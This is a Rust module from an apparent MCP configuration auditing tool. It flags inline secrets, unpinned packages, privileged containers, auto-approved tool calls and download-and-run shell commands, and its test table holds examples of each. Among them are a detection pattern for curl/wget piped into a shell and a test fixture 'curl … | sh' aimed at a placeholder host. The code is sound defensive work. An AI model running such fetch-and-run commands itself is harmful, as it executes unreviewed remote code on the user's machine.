//! What a client's file alone tells of a server: nothing is started, nothing is reached.

use super::finding::{Finding, Severity};
use crate::cli::import::{Entry, unwrapped};
use crate::config::suspect::{is_secret_name, is_secret_value, is_setting};
use crate::config::{HttpUrl, veil};
use serde_json::{Map, Value};
use std::path::Path;

/// Folders in which every user of a machine may write.
const SHARED_FOLDERS: &[&str] = &["/tmp/", "/var/tmp/", "/dev/shm/"];
/// Programs that fetch a package and run it, and the words before its name.
const RUNNERS: &[(&str, &[&str])] = &[
    ("npx", &[]),
    ("bunx", &[]),
    ("uvx", &[]),
    ("pnpx", &[]),
    ("npm", &["exec"]),
    ("pnpm", &["dlx"]),
    ("yarn", &["dlx"]),
    ("bun", &["x"]),
    ("uv", &["tool", "run"]),
    ("pipx", &["run"]),
];
/// Options of theirs that take the next word.
const WITH_VALUE: &[&str] = &[
    "-p",
    "--package",
    "--from",
    "--with",
    "--python",
    "--registry",
    "--index-url",
    "-c",
    "--call",
];
/// The options of `docker run` that take the next word.
const DOCKER_WITH_VALUE: &[&str] = &[
    "-e",
    "--env",
    "--env-file",
    "-v",
    "--volume",
    "--mount",
    "--name",
    "--network",
    "--net",
    "-p",
    "--publish",
    "-u",
    "--user",
    "-w",
    "--workdir",
    "--entrypoint",
    "--platform",
    "--add-host",
    "-l",
    "--label",
    "--memory",
    "-m",
    "--cpus",
];
/// Keys by which clients are told to ask nobody before a call.
const UNASKED: &[&str] = &["alwaysAllow", "autoApprove", "trust", "trustAllTools"];

/// What an entry is, as far as it may be shown.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Shown {
    /// Command and arguments, or the URL, without what seems to be a secret.
    pub(super) how: String,
    /// Whether it runs behind `portcullis wrap` already.
    pub(super) is_wrapped: bool,
    /// Whether the client has it switched off.
    pub(super) is_off: bool,
}

/// Looks at an entry; what is found has no server and no file yet.
pub(super) fn look(entry: &Entry) -> (Shown, Vec<Finding>) {
    let mut findings = Vec::new();
    let empty = Map::new();
    let settings = entry.settings.as_object().unwrap_or(&empty);
    let text = |key: &str| settings.get(key).and_then(Value::as_str);
    let is_off = settings.get("disabled") == Some(&Value::Bool(true))
        || settings.get("enabled") == Some(&Value::Bool(false));
    let mut shown = Shown {
        how: String::new(),
        is_wrapped: false,
        is_off,
    };
    let words = arguments(settings.get("args"));
    match (
        text("command"),
        text("url").or_else(|| text("serverUrl")),
        words,
    ) {
        (Some(command), None, Some(arguments)) => {
            let behind = unwrapped(command, &arguments);
            shown.is_wrapped = behind.is_some();
            let words = behind.unwrap_or_else(|| [vec![command.to_owned()], arguments].concat());
            shown.how = veil::arguments(&words).join(" ");
            command_facts(&words, &mut findings);
        }
        (None, Some(url), _) => {
            shown.how = veil::url(url);
            url_facts(url, &mut findings);
        }
        (Some(_) | None, Some(_) | None, Some(_) | None) => {
            "neither one command nor one URL".clone_into(&mut shown.how);
            findings.push(Finding::of_file(
                "config-unreadable",
                Severity::Low,
                ("", ""),
                "the entry is neither one command with a list of arguments nor one URL, so nobody can tell what it is",
                "write it anew, or remove it",
            ));
        }
    }
    for table in ["env", "headers"] {
        secrets_in(table, settings.get(table), &mut findings);
    }
    for key in UNASKED.iter().filter(|key| is_given(settings.get(**key))) {
        findings.push(Finding::of_file(
            "config-unasked-calls",
            Severity::Medium,
            (&format!("/{key}"), ""),
            "the client calls tools of this server without asking anybody",
            "remove the key, so that a person sees each call",
        ));
    }
    (shown, findings)
}

/// Whether a key is there and says more than nothing.
fn is_given(value: Option<&Value>) -> bool {
    match value {
        None | Some(Value::Null | Value::Bool(false)) => false,
        Some(Value::Array(all)) => !all.is_empty(),
        Some(Value::Bool(true) | Value::Number(_) | Value::String(_) | Value::Object(_)) => true,
    }
}

fn arguments(value: Option<&Value>) -> Option<Vec<String>> {
    let Some(value) = value.filter(|value| !value.is_null()) else {
        return Some(Vec::new());
    };
    let texts = value.as_array()?.iter();
    texts
        .map(|text| text.as_str().map(ToOwned::to_owned))
        .collect()
}

fn secrets_in(table: &str, values: Option<&Value>, findings: &mut Vec<Finding>) {
    let values = values.and_then(Value::as_object).into_iter().flatten();
    for (name, value) in values {
        let Some(value) = value.as_str().filter(|value| !value.contains("${")) else {
            continue;
        };
        let is_secret = !is_setting(value)
            && (is_secret_name(name) || is_secret_value(value))
            && !value.trim().is_empty();
        if is_secret {
            let place = format!("/{table}/{}", escaped(name));
            findings.push(inline_secret(&place));
        }
    }
}

fn inline_secret(pointer: &str) -> Finding {
    Finding::of_file(
        "config-inline-secret",
        Severity::High,
        (pointer, veil::VEIL),
        "a secret stands in the file: whoever reads the file, a copy or a backup of it has it, and so has every program of this user",
        "name a variable in its place, or run `portcullis import`, which moves it out; then replace the secret",
    )
}

fn url_facts(url: &str, findings: &mut Vec<Finding>) {
    if veil::url(url) != url {
        findings.push(inline_secret("/url"));
    }
    let is_plain = url
        .get(..7)
        .is_some_and(|start| start.eq_ignore_ascii_case("http://"));
    if is_plain && HttpUrl::parse(url).is_err() {
        findings.push(Finding::of_file(
            "config-plain-http",
            Severity::High,
            ("/url", &veil::url(url)),
            "anyone on the way can read what goes to this server, and change what it says of its tools",
            "use https",
        ));
    }
}

fn command_facts(words: &[String], findings: &mut Vec<Finding>) {
    for (index, (word, shown)) in words.iter().zip(veil::arguments(words)).enumerate().skip(1) {
        if *word != shown && !word.contains("${") {
            findings.push(inline_secret(&format!("/args/{}", index - 1)));
        }
    }
    let Some((command, arguments)) = words.split_first() else {
        return;
    };
    if SHARED_FOLDERS
        .iter()
        .any(|folder| command.starts_with(folder))
    {
        findings.push(Finding::of_file(
            "config-shared-folder",
            Severity::High,
            ("/command", command),
            "the program lies where every user of this machine may put another one",
            "move it to a folder that only its owner can write to",
        ));
    }
    if is_downloaded_script(words) {
        findings.push(Finding::of_file(
            "config-downloaded-script",
            Severity::High,
            ("/args", ""),
            "each start runs whatever a web server answers at that moment",
            "download it once, read it, and start the copy",
        ));
    }
    if let Some(package) = unpinned(command, arguments) {
        findings.push(Finding::of_file(
            "config-unpinned-package",
            Severity::Medium,
            ("/args", package),
            "each start may run another version, which nobody has looked at",
            "name the exact version (`package@1.2.3`), or the digest of an image",
        ));
    }
    if is_docker(command)
        && arguments
            .iter()
            .any(|word| word == "--privileged" || word.contains("/docker.sock"))
    {
        findings.push(Finding::of_file(
            "config-container-without-walls",
            Severity::High,
            ("/args", ""),
            "the container may do everything on this machine",
            "leave out `--privileged` and the socket of the container engine",
        ));
    }
}

/// A shell that is told to fetch and run.
fn is_downloaded_script(words: &[String]) -> bool {
    let is_shell = words.first().is_some_and(|command| {
        [
            "sh",
            "bash",
            "zsh",
            "dash",
            "powershell",
            "pwsh",
            "cmd",
            "cmd.exe",
        ]
        .contains(&base(command))
    });
    let fetches = |word: &String| {
        ["curl ", "wget ", "iwr ", "invoke-webrequest"]
            .iter()
            .any(|fetch| word.to_ascii_lowercase().contains(fetch))
            && (word.contains('|') || word.contains("$(") || word.contains('`'))
    };
    is_shell && words.iter().any(fetches)
}

fn base(command: &str) -> &str {
    let file = command.rsplit(['/', '\\']).next().unwrap_or(command);
    file.strip_suffix(".cmd")
        .or_else(|| file.strip_suffix(".exe"))
        .unwrap_or(file)
}

fn is_docker(command: &str) -> bool {
    ["docker", "podman", "nerdctl"].contains(&base(command))
}

/// The package or image that is fetched at each start in whatever version there is then.
fn unpinned<'a>(command: &str, arguments: &'a [String]) -> Option<&'a str> {
    if is_docker(command) {
        let at = arguments.iter().position(|word| word == "run")?;
        let image = first_plain(arguments.get(at + 1..)?, DOCKER_WITH_VALUE)?;
        return (!is_pinned_image(image)).then_some(image);
    }
    let (_, before) = RUNNERS
        .iter()
        .find(|(runner, _)| *runner == base(command))?;
    let is_so = arguments
        .iter()
        .zip(*before)
        .all(|(word, expected)| word == expected);
    if !is_so || arguments.len() < before.len() {
        return None;
    }
    let rest = arguments.get(before.len()..)?;
    let named = rest
        .iter()
        .position(|word| word == "-p" || word == "--package" || word == "--from");
    let package = match named {
        Some(at) => rest.get(at + 1)?.as_str(),
        None => first_plain(rest, WITH_VALUE)?,
    };
    (!is_pinned_package(package)).then_some(package)
}

/// The first word that is neither an option nor an option's value.
fn first_plain<'a>(words: &'a [String], with_value: &[&str]) -> Option<&'a str> {
    let mut is_value = false;
    for word in words {
        if is_value {
            is_value = false;
        } else if with_value.contains(&word.as_str()) {
            is_value = true;
        } else if !word.starts_with('-') {
            return Some(word);
        }
    }
    None
}

/// Whether `package@1.2.3`, `package==1.2.3`, a local folder or a commit is named, and not a tag such as `latest`.
fn is_pinned_package(package: &str) -> bool {
    if package.starts_with(['.', '/']) || Path::new(package).is_absolute() {
        return true;
    }
    if let Some((_, version)) = package.split_once("==") {
        return is_version(version);
    }
    // The scope of a package begins with the same sign.
    let (_, version) = package
        .get(1..)
        .and_then(|rest| rest.rsplit_once('@'))
        .unwrap_or_default();
    let is_commit = version.len() == 40 && version.bytes().all(|byte| byte.is_ascii_hexdigit());
    is_commit || is_version(version)
}

/// Three numbers, and perhaps more after them: `1.2.3`, `2025.8.21`, `1.0.0-beta.1`.
fn is_version(text: &str) -> bool {
    let mut parts = text.splitn(3, '.');
    let is_number = |part: &str| !part.is_empty() && part.bytes().all(|byte| byte.is_ascii_digit());
    let begins_with_one = |part: &str| part.as_bytes().first().is_some_and(u8::is_ascii_digit);
    match (parts.next(), parts.next(), parts.next()) {
        (Some(major), Some(minor), Some(patch)) => {
            is_number(major)
                && is_number(minor)
                && begins_with_one(patch)
                && !patch.ends_with(['x', '*'])
        }
        (Some(_) | None, Some(_) | None, Some(_) | None) => false,
    }
}

/// Only a digest names one image.
fn is_pinned_image(image: &str) -> bool {
    image.contains("@sha256:")
}

/// A name as a part of a JSON pointer (RFC 6901).
fn escaped(name: &str) -> String {
    name.replace('~', "~0").replace('/', "~1")
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    /// An entry's settings, and the rules that it breaks.
    fn check(settings: &Value, expected: &[&str]) {
        let entry = Entry {
            name: "a".to_owned(),
            project: None,
            settings: settings.clone(),
        };
        let (shown, findings) = look(&entry);
        let found: Vec<&str> = findings.iter().map(|finding| finding.rule).collect();
        assert_eq!(found, expected, "{settings}");
        assert!(
            !format!("{shown:?}{findings:?}").contains("hunter2"),
            "{settings}"
        );
    }

    #[test]
    #[expect(clippy::too_many_lines, reason = "one table")]
    fn a_file_tells_what_is_wrong_with_it() {
        let secret = "config-inline-secret";
        for (settings, expected) in [
            (
                json!({"command": "npx", "args": ["-y", "@a/b@1.2.3"]}),
                &[][..],
            ),
            (
                json!({"command": "npx", "args": ["-y", "@a/b"]}),
                &["config-unpinned-package"],
            ),
            (
                json!({"command": "/usr/bin/npx", "args": ["-y", "b@latest"]}),
                &["config-unpinned-package"],
            ),
            (
                json!({"command": "npx", "args": ["-y", "b@^1.2.3"]}),
                &["config-unpinned-package"],
            ),
            (
                json!({"command": "npx", "args": ["-y", "b@1.x"]}),
                &["config-unpinned-package"],
            ),
            (
                json!({"command": "npx", "args": ["-p", "b", "run"]}),
                &["config-unpinned-package"],
            ),
            (json!({"command": "uvx", "args": ["b==1.2.3"]}), &[]),
            (
                json!({"command": "uvx", "args": ["--from", "git+https://x.example/b@main", "b"]}),
                &["config-unpinned-package"],
            ),
            (
                json!({"command": "uv", "args": ["tool", "run", "b"]}),
                &["config-unpinned-package"],
            ),
            (json!({"command": "uv", "args": ["run", "b.py"]}), &[]),
            (
                json!({"command": "docker", "args": ["run", "-i", "--rm", "-e", "A", "x/y:1"]}),
                &["config-unpinned-package"],
            ),
            (
                json!({"command": "docker", "args": ["run", "x/y@sha256:00"]}),
                &[],
            ),
            (
                json!({"command": "docker", "args": ["run", "--privileged", "x/y@sha256:00"]}),
                &["config-container-without-walls"],
            ),
            (json!({"command": "node", "args": ["server.js"]}), &[]),
            (json!({"command": "/tmp/server"}), &["config-shared-folder"]),
            (
                json!({"command": "sh", "args": ["-c", "curl -s https://x.example/a | sh"]}),
                &["config-downloaded-script"],
            ),
            (
                json!({"command": "x", "env": {"API_TOKEN": "hunter2"}}),
                &[secret],
            ),
            (
                json!({"command": "x", "env": {"API_TOKEN": "${TOKEN}", "LIMIT_TOKENS": "5", "TOKEN_LIMIT": "5"}}),
                &[],
            ),
            (
                json!({"command": "x", "args": ["--token", "hunter2"]}),
                &[secret],
            ),
            (
                json!({"url": "https://x.example/mcp?apiKey=hunter2"}),
                &[secret],
            ),
            (
                json!({"url": "https://x.example/mcp", "headers": {"Authorization": "Bearer hunter2"}}),
                &[secret],
            ),
            (
                json!({"url": "http://x.example/mcp"}),
                &["config-plain-http"],
            ),
            (json!({"url": "http://127.0.0.1:3000/mcp"}), &[]),
            (
                json!({"command": "x", "autoApprove": ["read"]}),
                &["config-unasked-calls"],
            ),
            (json!({"command": "x", "autoApprove": []}), &[]),
            (json!({"command": "x", "args": 7}), &["config-unreadable"]),
            (json!({}), &["config-unreadable"]),
            (json!(7), &["config-unreadable"]),
        ] {
            check(&settings, expected);
        }
    }

    #[test]
    fn what_runs_behind_the_gateway_is_told_so() {
        let settings = json!({"command": "/opt/portcullis", "args": ["wrap", "--name", "a", "--", "npx", "b"]});
        let entry = Entry {
            name: "a".to_owned(),
            project: None,
            settings,
        };
        let (shown, findings) = look(&entry);
        assert!(shown.is_wrapped);
        assert_eq!(shown.how, "npx b");
        assert_eq!(findings.len(), 1);
    }
}
